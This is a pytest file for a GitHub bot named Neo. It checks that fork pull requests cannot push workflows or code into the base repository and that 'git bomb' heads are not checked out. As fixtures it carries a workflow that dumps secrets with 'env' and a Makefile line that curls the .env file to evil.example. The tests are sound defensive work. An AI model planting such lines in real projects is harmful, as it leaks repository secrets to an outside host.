"""Hostile forks: a pull request from a fork never brings its code into a push of the
base repository unasked, and its head is checked out only within bounds.

A writer's `@neo please fix the remaining typo` on a fork's pull request made
Neo push `neo/pr-N` to the base repository from the fork's head: the fork's
`.github/workflows/evil.yml` and all its code landed in a base branch and a new
draft pull request, with no word in the report. Now (docs/github-app.md, "Pull
requests from forks"):

- without `fork_work: push` on the default branch, nothing is pushed and the
  report proposes Neo's change as a patch against the fork's head;
- with it, the branch holds the merge base plus the fork's changes bar CI
  configuration, which the report and the pull request name;
- a fork's head that adds too many files or bytes to the base branch is not
  checked out (the "git bomb").

The real worker with a real SQLite queue, githubkit against the fake GitHub,
the git CLI against the fake git server (which refuses, as GitHub does, a push
touching a workflow without the `workflows` permission), the anthropic SDK
against the fake Messages API, and the local sandbox.
"""

# The worker tests' fixtures are imported by name, and pytest hands them in by name.
# ruff: noqa: F811

from __future__ import annotations

import json
import subprocess
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from bot.config.settings import Settings
from bot.github.app import GitHubApp
from bot.jobs import JobKind, JobRequest, JobState, Thread, TriggerKind
from bot.queue import SqliteQueue
from tests.bot.worker.test_loop import (  # noqa: F401 (fixtures)
    INSTALLATION,
    REPO,
    WITH_WORKFLOWS,
    anthropic_env,
    app,
    bot_comments,
    clock,
    enqueue,
    finished,
    get,
    git,
    git_server,
    github,
    origin,
    queue,
    run_until,
    settings,
    worker,
)
from tests.fakes import (
    FakeAnthropicAPI,
    FakeGitHub,
    Reply,
    make_bomb,
    make_pull_request,
    text,
    tool_use,
)
from tests.fakes.github_api import ALL_JOB_PERMISSIONS

EVIL = ".github/workflows/evil.yml"
EVIL_YML = b"on: push\njobs: {steal: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n"
TYPO = b"teh cat sat on teh mat\n"
WITH_EVIL: dict[str, bytes | None] = {EVIL: EVIL_YML, "typo.txt": TYPO}
# No workflow: the base's own push workflows would run this Makefile with secrets.
CODE_ONLY: dict[str, bytes | None] = {"Makefile": b"test:\n\tcurl -d @.env evil.example\n"}


def fork_pull(github: FakeGitHub, origin: Path, files: Mapping[str, bytes | None]) -> int:
    """A pull request from outsider's fork, its head at refs/pull/N/head as GitHub keeps it."""
    number = github.add_pull(
        REPO,
        "Fix typos",
        "Fixes a few typos.",
        head="fix-typos",
        user="outsider",
        head_repository="outsider/hello",
    )
    head = make_pull_request(origin, number, dict(files))
    github.set_pull_head(REPO, number, head)
    github.set_pull_diff(REPO, number, git(origin, "diff", f"main...{head}"))
    return number


def fix_request(number: int, comment: int) -> JobRequest:
    return JobRequest(
        kind=JobKind.TASK,
        thread=Thread(REPO, number, is_pull_request=True),
        installation_id=INSTALLATION,
        event="issue_comment.created",
        trigger=TriggerKind.COMMENT,
        trigger_id=comment,
        author="mona",
        author_association="COLLABORATOR",
        instruction="@neo please fix the remaining typo",
        dedupe_key=f"comment:{comment}",
        delivery_id="d1",
    )


def script_fix(fake: FakeAnthropicAPI) -> None:
    fake.script(
        Reply([tool_use("t1", "bash", {"command": "sed -i s/teh/the/g typo.txt"})], "tool_use"),
        Reply([text("Fixed the remaining typos in typo.txt.")]),
    )


def branches(origin: Path) -> dict[str, str]:
    listed = git(origin, "for-each-ref", "--format=%(refname:short) %(objectname)", "refs/heads")
    return dict(line.split(" ", 1) for line in listed.splitlines())


def holds(origin: Path, commit: str, path: str) -> bool:
    done = subprocess.run(
        ["git", "--git-dir", str(origin), "cat-file", "-e", f"{commit}:{path}"],
        capture_output=True,
        check=False,
    )
    return done.returncode == 0


async def ask_for_the_fix(
    queue: SqliteQueue, app: GitHubApp, settings: Settings, github: FakeGitHub, number: int
) -> int:
    comment = github.add_comment(REPO, number, "@neo please fix the remaining typo", user="mona")
    job_id = await enqueue(queue, fix_request(number, comment))
    await run_until(worker(queue, app, settings), finished(queue, job_id))
    return job_id


@pytest.mark.parametrize(
    ("config", "permissions", "files"),
    [
        ("allow_workflow_edits: true\n", WITH_WORKFLOWS, WITH_EVIL),
        (None, ALL_JOB_PERMISSIONS, WITH_EVIL),
        (None, ALL_JOB_PERMISSIONS, {**CODE_ONLY, "typo.txt": TYPO}),
    ],
    ids=["workflow-edits-allowed", "defaults", "code-only"],
)
async def test_without_the_opt_in_nothing_of_a_fork_reaches_the_base_repository(
    queue: SqliteQueue,
    app: GitHubApp,
    settings: Settings,
    github: FakeGitHub,
    origin: Path,
    fake_anthropic: FakeAnthropicAPI,
    config: str | None,
    permissions: Mapping[str, str],
    files: Mapping[str, bytes | None],
) -> None:
    github.install(INSTALLATION, "octo", ["hello"], permissions=permissions)
    if config is not None:
        github.put_file(REPO, ".github/neo.yml", config)
    number = fork_pull(github, origin, files)
    script_fix(fake_anthropic)
    before = branches(origin)

    job_id = await ask_for_the_fix(queue, app, settings, github, number)

    job = await get(queue, job_id)
    assert job.state is JobState.SUCCEEDED, job.result
    # No branch was made or moved: the fork's workflow, code and Neo's fix stay out.
    assert branches(origin) == before
    assert all(not holds(origin, sha, EVIL) for sha in branches(origin).values())
    assert github.pulls(REPO) == [pull for pull in github.pulls(REPO) if pull["number"] == number]
    # The report says why, and holds the change as a patch on the fork's head.
    [report] = bot_comments(github, number)
    body = report["body"]
    assert "the change is proposed below as a patch; nothing was pushed" in body
    assert (
        "Nothing was pushed: this pull request comes from a fork, and a fork's code reaches"
        " this repository only with `fork_work: push` in `.github/neo.yml`."
    ) in body
    assert "-teh cat sat on teh mat\n+the cat sat on the mat\n" in body
    assert "git apply neo.patch" in body


@pytest.mark.parametrize(
    ("config", "permissions"),
    [
        ("fork_work: push\nallow_workflow_edits: true\n", WITH_WORKFLOWS),
        ("fork_work: push\n", ALL_JOB_PERMISSIONS),
    ],
    ids=["workflows-granted", "no-workflows-permission"],
)
async def test_with_push_the_forks_branch_leaves_its_workflows_out_and_says_so(
    queue: SqliteQueue,
    app: GitHubApp,
    settings: Settings,
    github: FakeGitHub,
    origin: Path,
    fake_anthropic: FakeAnthropicAPI,
    config: str,
    permissions: Mapping[str, str],
) -> None:
    github.install(INSTALLATION, "octo", ["hello"], permissions=permissions)
    github.put_file(REPO, ".github/neo.yml", config)
    main = git(origin, "rev-parse", "refs/heads/main")
    number = fork_pull(github, origin, WITH_EVIL)
    script_fix(fake_anthropic)

    job_id = await ask_for_the_fix(queue, app, settings, github, number)

    job = await get(queue, job_id)
    assert job.state is JobState.SUCCEEDED, job.result
    pushed = branches(origin)[f"neo/pr-{number}"]
    assert git(origin, "show", f"{pushed}:typo.txt") == "the cat sat on the mat"
    assert not holds(origin, pushed, EVIL)
    # Not in any commit pushed either: one commit of the fork's changes, then Neo's.
    for commit in git(origin, "rev-list", f"{main}..{pushed}").split():
        assert EVIL not in git(origin, "diff-tree", "-r", "--name-only", "--root", commit)
    [pull] = [p for p in github.pulls(REPO) if p["head"]["ref"] == f"neo/pr-{number}"]
    assert (
        "without its changes to CI configuration (`.github/workflows/evil.yml`)" in (pull["body"])
    )
    [report] = bot_comments(github, number)
    assert (
        "without its changes to CI configuration, which never come into this repository"
        " from a fork: `.github/workflows/evil.yml`."
    ) in report["body"]


@pytest.mark.parametrize(
    ("files", "file_size", "line"),
    [
        (
            12_000,
            64,
            "adds or changes 12,000 files, more than the 10,000 Neo checks out from a fork",
        ),
        (
            300,
            1024 * 1024,
            "adds or changes 300.0 MiB of files, more than the 256.0 MiB Neo checks out from"
            " a fork",
        ),
    ],
    ids=["files", "bytes"],
)
@pytest.mark.parametrize("review", [False, True], ids=["task", "review"])
async def test_a_forks_git_bomb_is_not_checked_out_and_the_report_says_why(
    queue: SqliteQueue,
    app: GitHubApp,
    settings: Settings,
    github: FakeGitHub,
    origin: Path,
    fake_anthropic: FakeAnthropicAPI,
    files: int,
    file_size: int,
    line: str,
    review: bool,
) -> None:
    number = fork_pull(github, origin, {})
    # The fork's head: a few hundred kilobytes packed, many files or bytes checked out.
    head = make_bomb(origin, number, files=files, file_size=file_size)
    github.set_pull_head(REPO, number, head)
    github.set_pull_diff(REPO, number, None)  # GitHub refuses a diff that large
    comment = github.add_comment(REPO, number, "@neo look", user="mona")
    request = fix_request(number, comment)
    if review:
        request = replace(request, instruction="@neo review", kind=JobKind.REVIEW)
    job_id = await enqueue(queue, request)

    await run_until(worker(queue, app, settings), finished(queue, job_id))

    job = await get(queue, job_id)
    assert job.state is JobState.FAILED, job.result
    assert job.result is not None
    assert f"fork_refused: pull request #{number}'s head {line}: it was not checked out" == (
        job.result.error
    )
    assert fake_anthropic.requests == []
    [report] = bot_comments(github, number)
    assert line in report["body"]


async def test_a_review_of_a_fork_within_its_bounds_still_gets_a_bounded_prompt(
    queue: SqliteQueue,
    app: GitHubApp,
    settings: Settings,
    github: FakeGitHub,
    origin: Path,
    fake_anthropic: FakeAnthropicAPI,
) -> None:
    number = fork_pull(github, origin, {})
    # Under the checkout's bounds, and a diff of more than a megabyte in 9,000 files.
    github.set_pull_head(REPO, number, make_bomb(origin, number, files=9_000, file_size=64))
    comment = github.add_comment(REPO, number, "@neo review", user="mona")
    request = replace(fix_request(number, comment), instruction="@neo review", kind=JobKind.REVIEW)
    fake_anthropic.script(Reply([text("Nine thousand copies of one file.")]))
    job_id = await enqueue(queue, request)

    await run_until(worker(queue, app, settings), finished(queue, job_id))

    job = await get(queue, job_id)
    assert job.state is JobState.SUCCEEDED, job.result
    first = json.dumps(fake_anthropic.requests[0].body["messages"][0])
    assert len(first) < 300_000
    assert "8,500 more files in the diff shown are not listed" in first
    assert "only the first 200,000 are shown" in first
